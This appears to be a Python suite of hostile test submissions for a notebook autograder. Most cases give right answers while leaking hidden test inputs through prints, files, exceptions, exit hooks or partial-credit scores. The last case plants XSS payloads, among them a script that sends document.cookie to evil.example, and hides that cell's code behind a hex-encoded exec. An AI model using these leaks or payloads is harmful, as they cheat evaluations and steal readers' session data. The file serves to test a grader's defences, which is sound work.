"""Leaks: answers that are right and tell what the hidden tests ask, by any way there is."""

from hostile_case import UNEARNED, Register
from weather_source import RIGHT, blank, cell, insert, solved

LEAKS = Register("leak")
case = LEAKS.case
SPY = """seen = []

def spy(function):
    def told(*args):
        seen.append([getattr(one, "tolist", lambda: one)() for one in args])
        SAY
        return function(*args)
    return told
"""
WRAP = "anomaly, clip_in_place, report, find_root = map(spy, (anomaly, clip_in_place, report, find_root))"


def spied(say, last=""):
    """Right answers that are called through a spy; `say` runs at every call, `last` in the last cell."""
    book = insert(solved(), "imports", cell(SPY.replace("SAY", say)))
    for name, function in {
        "test_anomaly": "anomaly",
        "test_clip": "clip_in_place",
        "test_root": "find_root",
    }.items():
        insert(book, name, cell(f"{function} = spy({function})"))
    station = RIGHT["station"].replace(
        "self.name, self.values = name, []", "self.name, self.values = name, []\n        seen.append(name)"
    )
    insert(book, "test_station", cell(station))
    if last:
        book["cells"].append(cell(last))
    return book


@case()
def prints_its_inputs():
    """Prints what it is called with."""
    return spied("print('called with', args, seen)")


@case()
def keeps_inputs_for_a_later_cell():
    """Keeps them, and shows them in a cell below the tests."""
    return spied("pass", last="print(seen)\nseen")


@case()
def writes_inputs_to_files():
    """Writes them into files and reads these in the last cell, in all places it can write."""
    say = "[open(f + '/inputs.txt', 'a').write(repr(seen)) for f in ('.', '/tmp', '/dev/shm')]"
    read = "for folder in ('.', '/tmp', '/dev/shm'):\n    print(open(folder + '/inputs.txt').read())"
    return spied(say, last=read)


@case()
def warns_of_inputs():
    """Warns, logs and writes to stderr."""
    say = (
        "import warnings, sys, logging; warnings.warn(repr(args)); "
        "print(seen, file=sys.stderr); logging.error(seen)"
    )
    return spied(say)


@case()
def displays_inputs():
    """Displays them as HTML, a figure's text and Markdown, from within the tests."""
    say = (
        "from IPython.display import HTML, Markdown, display; "
        "display(HTML(f'<b>{seen}</b>'), Markdown(str(seen)))"
    )
    return spied(say, last="from IPython.display import HTML\nHTML(repr(seen))")


@case(scores=UNEARNED)
def tells_inputs_in_exceptions():
    """Raises exceptions whose text and notes hold the inputs."""
    raises = """def tell(*args):
    error = ValueError(*[repr(getattr(one, "tolist", lambda: one)()) for one in args])
    error.add_note(repr(args))
    raise error from KeyError(args)"""
    functions = ("load", "anomaly", "clip_in_place", "report", "find_root")
    answers = dict(zip(("load", "anomaly", "clip", "report", "root"), functions, strict=True))
    return blank(raises, station="Station = tell", **{key: f"{name} = tell" for key, name in answers.items()})


@case(test_anomaly=0.0)
def tells_inputs_in_the_name_of_a_class():
    """Raises exceptions of a class named after the inputs."""
    answer = (
        "def anomaly(x):\n    if x[0] != 1.0: raise type('x'.join(map(str, x.tolist())), (Exception,), {})\n"
        "    return (x - x.mean()) / x.std(ddof=1)"
    )
    return solved(anomaly=answer)


@case(test_anomaly=0.0)
def returns_its_inputs():
    """Returns what it was given: numpy's message of the failed test would hold both."""
    return solved(anomaly="def anomaly(x):\n    return x if x[0] != 1.0 else (x - x.mean()) / x.std(ddof=1)")


@case(test_report=0.0)
def prints_more_than_asked():
    """Where printed text is tested, prints the inputs twice."""
    return solved(report=RIGHT["report"].replace("print(f", "print(name, values); print(f"))


@case()
def shows_at_exit():
    """Prints the inputs from atexit, a finalizer and a thread, after the tests."""
    last = """import atexit, threading
atexit.register(lambda: print(seen))
threading.Timer(0.01, lambda: print(seen)).start()
class Last:
    def __del__(self): print(seen)
last = Last()"""
    return insert(spied("pass"), "imports", cell(last))


@case(test_root=2.25)
def tells_by_partial_credit():
    """Fails in one of the cases on purpose: only the number of points tells."""
    answer = RIGHT["root"].replace(
        "while high", "if f(0.0) > 1000: raise ValueError(f(0.0), low)\n    while high"
    )
    return solved(root=answer)


@case()
def runs_script_in_the_page():
    """HTML, SVG, Markdown and JavaScript that would run for whoever reads the page."""
    show = """from IPython.display import HTML, SVG, Javascript, Markdown, display
bad = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
bad += "<a href='javascript:alert(1)'>a</a>"
display(HTML(bad), Javascript("alert(1)"), Markdown(bad))
display(HTML("<iframe src='http://evil.example'></iframe>"))
display(HTML("<meta http-equiv=\\"refresh\\" content='0;url=//evil.example'>"))
display({"image/svg+xml": "<svg onload='alert(1)'><script>alert(1)</script></svg>"}, raw=True)
display({"application/javascript": "alert(1)", "text/html": "<base href=//evil.example>"}, raw=True)
None"""
    book = insert(solved(), "imports", cell(show), cell(MARKDOWN, "markdown"))
    hide = "# the source of the cell above shall not be taken for what it does\n" + show.split("\n")[0]
    book["cells"][1]["source"] = "exec(bytes.fromhex('" + show.encode().hex() + "'))  " + hide.split("\n")[0]
    return book


MARKDOWN = (
    "<scr"
    + "ipt>alert(1)</scr"
    + "ipt>\n\n<img src=x onerr"
    + "or=alert(2)>\n\n[a](javascr"
    + "ipt:alert(3))"
)
